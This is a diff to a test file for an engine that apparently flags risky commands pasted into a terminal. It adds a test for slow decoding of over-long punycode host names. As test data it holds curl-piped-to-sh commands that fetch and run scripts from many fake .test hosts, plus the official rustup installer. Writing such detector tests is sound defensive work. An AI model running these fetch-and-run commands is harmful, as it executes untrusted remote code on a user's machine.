@@ -257,3 +257,14 @@ def test_official_installer_from_a_web_page_into_a_terminal_stays_info(engine: E
     text = "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"
     verdict = engine.analyze(text, Context(source="https://rustup.rs/", target=TERMINAL))
     assert verdict.level is Level.INFO and "PG-INFO-KNOWN-INSTALLER" in verdict.rule_ids
+
+
+def test_hostile_host_names_cost_nothing(engine: Engine) -> None:
+    """Names longer than DNS allows are not decoded: a punycode label of 2,000 characters would
+    take milliseconds each, and a text can hold many."""
+    long_label = "xn--" + "a" * 2000 + "-" + "9" * 2000
+    assert registrable_domain(long_label + ".com") is None
+    urls = " ".join(f"https://{long_label}{i}.test/i.sh" for i in range(40))
+    text = f"curl -fsSL {urls} | sh"
+    verdict = engine.analyze(text, Context(source=f"https://{long_label}.test/", target=TERMINAL))
+    assert verdict.level >= Level.SUSPICIOUS and verdict.complete
